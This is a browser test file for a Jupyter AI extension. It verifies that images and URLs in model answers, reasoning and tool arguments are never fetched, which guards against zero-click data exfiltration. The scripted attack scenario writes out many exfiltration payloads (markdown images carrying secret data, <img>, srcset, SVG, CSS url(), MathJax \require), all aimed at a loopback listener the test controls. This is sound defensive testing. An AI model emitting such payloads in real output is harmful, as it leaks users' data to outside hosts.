"""A remote image in model text is never fetched (issue 24 #2, SPEC §3): no zero-click leak.

The model reads data with a read-only tool, then answers `![chart](http://host/p.png?d=<data>)`.
Were the frontend to load that image, the data would reach the host with no click. Here the
host is a loopback listener the test controls: it must receive no request, neither while the
cell runs nor when the saved (trusted) notebook is reopened, and the page must show a link
naming the host instead. Every other way of asking a browser to load a URL from model text
(raw `<img>`, srcset, `<video poster>`, SVG `<image>`, CSS `url()`, a reference-style image)
is in the answer too, and in the reasoning and a tool's output, and so are TeX commands that
could name a URL (`\\style{background: url(…)}`, `\\require{URL}`), which reach MathJax as written.

A user's own `<img>` (a cell of theirs) is the control: the listener must see *it*, which
shows the browser could reach the host, and when it arrives, the model's images, which come
earlier on the page, would have arrived too.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Iterator

import pytest

from .harness import (
    cell,
    expect,
    open_notebook,
    run_and_wait,
    save_notebook,
    screenshot,
    wait_kernel_idle,
    write_notebook,
)
from kimi_jupyter.testing import Scenario, ScriptedTurn, ToolCallSpec

pytestmark = pytest.mark.browser

# The smallest valid PNG (1×1), so the control image really loads.
_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)


class _Hits(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        with self.server.hit:  # type: ignore[attr-defined]
            self.server.hits.append(self.path)  # type: ignore[attr-defined]
            self.server.hit.notify_all()  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Cache-Control", "no-store")  # a reopen must ask again
        self.send_header("Content-Length", str(len(_PNG)))
        self.end_headers()
        self.wfile.write(_PNG)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[Any]:
    """A loopback HTTP server that records the path of every request it gets."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hits)
    server.hits = []  # type: ignore[attr-defined]
    server.hit = threading.Condition()  # type: ignore[attr-defined]  # notified on every request
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def _attack(base: str) -> Scenario:
    answer = f"""# Chart

Here is the chart: ![chart]({base}/md.png?d=secret-rows)

![ref image][r] and <img src="{base}/img.png?d=1"> and <img srcset="{base}/srcset.png 1x">

<video poster="{base}/poster.png"></video> <svg><image href="{base}/svg.png"/></svg>

<p style="background: url({base}/css.png)">styled</p>

Math: $\\style{{background-image: url({base}/mathjax-style.png)}}{{x}}$ and $\\require{{{base}/mathjax-require.js}}$ and $$\\href{{{base}/href}}{{\\style{{background: url({base}/mathjax-block.png)}}{{y}}}}$$

[![linked]({base}/linked.png)](https://example.org/)

[r]: {base}/ref.png?d=secret-ref
"""
    reasoning = f"I will draw ![r]({base}/reasoning.png) <img src=\"{base}/reasoning-img.png\">"
    leak = json.dumps({"note": f"![t]({base}/tool-arg.png)"})
    return Scenario("remote_image", [
        ScriptedTurn(reasoning=reasoning, tool_calls=[ToolCallSpec("lookup", leak)]),
        ScriptedTurn(reasoning=reasoning, content=answer),
    ])


def _wait_hits(listener: Any, path: str, n: int, timeout: float = 30) -> None:
    """Wait until the listener has seen `path` `n` times (the control image loaded)."""
    with listener.hit:
        reached = listener.hit.wait_for(lambda: listener.hits.count(path) >= n, timeout)
    assert reached, f"the control image never reached the listener: {listener.hits}"


def _check(page: Any, out: Any, host: str, listener: Any, seen: list[str], control: str, n: int) -> None:
    # What the user sees instead of the images: links naming the host.
    link = out.get_by_role("link", name=f"[image: chart — {host}]")
    expect(link).to_be_visible()
    assert link.get_attribute("href").endswith("/md.png?d=secret-rows")
    expect(out.get_by_role("link", name=f"[image: ref image — {host}]")).to_be_visible()
    expect(out.get_by_text("[image: linked]")).to_be_visible()
    expect(out.locator("img, video, image, picture, source")).to_have_count(0)
    expect(out.locator("[style*='url(']")).to_have_count(0)
    # The math is typeset (MathJax's own filters drop `\\style` urls and refuse a URL in `\\require`).
    expect(out.locator("mjx-container")).to_have_count(3, timeout=30_000)
    # The control loaded: the listener is reachable, and had anything from the model
    # asked for it (earlier on the page), it would have arrived first.
    _wait_hits(listener, control, n)
    assert [h for h in listener.hits if h != control] == [], listener.hits
    assert [u for u in seen if not u.endswith(control)] == [], seen


def test_remote_image_in_answer_is_never_fetched_live_or_after_reopen(lab_page, lab_server, browser_kimi, listener):
    page, server = lab_page, lab_server
    port = listener.server_address[1]
    host = f"127.0.0.1:{port}"
    base = f"http://{host}"
    control = "/control.png"
    browser_kimi.add_scenario(_attack(base))
    seen: list[str] = []  # every request the page makes to the listener
    page.on("request", lambda r: seen.append(r.url) if r.url.startswith(base) else None)
    name = write_notebook(server.root, "remote-image.ipynb", [
        "%load_ext kimi_jupyter",
        "import kimi_jupyter\n@kimi_jupyter.tool\ndef lookup(note: str) -> str:\n"
        "    '''Look a note up.'''\n    return note",
        "%%kimi -y\n[[scenario:remote_image]] chart my data",
        f"from IPython.display import HTML\nHTML('<img src=\"{base}{control}\" alt=\"control\">')",
    ])
    open_notebook(page, server, name)
    for i in range(4):
        run_and_wait(page, i, timeout=90_000)
    wait_kernel_idle(page)
    out = cell(page, 2).locator(".jp-Cell-outputArea")
    _check(page, out, host, listener, seen, control, 1)
    screenshot(page, "lab-remote-image-live", out)

    save_notebook(page, server, name, lambda nb: bool(nb["cells"][2]["outputs"] and nb["cells"][3]["outputs"]))
    open_notebook(page, server, name)  # reopen: the saved notebook is trusted
    out = cell(page, 2).locator(".jp-Cell-outputArea")
    _check(page, out, host, listener, seen, control, 2)
    screenshot(page, "lab-remote-image-reopened", out)


def test_remote_image_in_a_chat_panel_reply_is_never_fetched(lab_page, lab_server, browser_kimi, listener):
    """The chat panel renders replies through the same live widgets: a link naming the host there too."""
    page, server = lab_page, lab_server
    port = listener.server_address[1]
    host = f"127.0.0.1:{port}"
    base = f"http://{host}"
    control = "/panel-control.png"
    browser_kimi.add_scenario(Scenario("remote_image_panel", [ScriptedTurn(
        reasoning=f"Draw ![r]({base}/panel-reasoning.png)",
        content=f"Your chart: ![chart]({base}/panel.png?d=secret)\n\n<img src=\"{base}/panel-img.png\">\n",
    )]))
    seen: list[str] = []
    page.on("request", lambda r: seen.append(r.url) if r.url.startswith(base) else None)
    name = write_notebook(server.root, "remote-image-panel.ipynb", [
        "%load_ext kimi_jupyter",
        "from kimi_jupyter.views.chat_panel import ChatPanel\npanel = ChatPanel()\npanel",
        "r = panel.ask('[[scenario:remote_image_panel]] chart it')",
        f"from IPython.display import HTML\nHTML('<img src=\"{base}{control}\" alt=\"control\">')",
    ])
    open_notebook(page, server, name)
    for i in range(4):
        run_and_wait(page, i, timeout=90_000)
    answer = cell(page, 1).locator(".kimi-chat-answer")
    expect(answer.get_by_role("link", name=f"[image: chart — {host}]")).to_be_visible()
    expect(answer).to_contain_text('<img src="')  # the raw tag, as text
    expect(cell(page, 1).locator(".kimi-chat img")).to_have_count(0)
    _wait_hits(listener, control, 1)
    assert [h for h in listener.hits if h != control] == [], listener.hits
    assert [u for u in seen if not u.endswith(control)] == [], seen
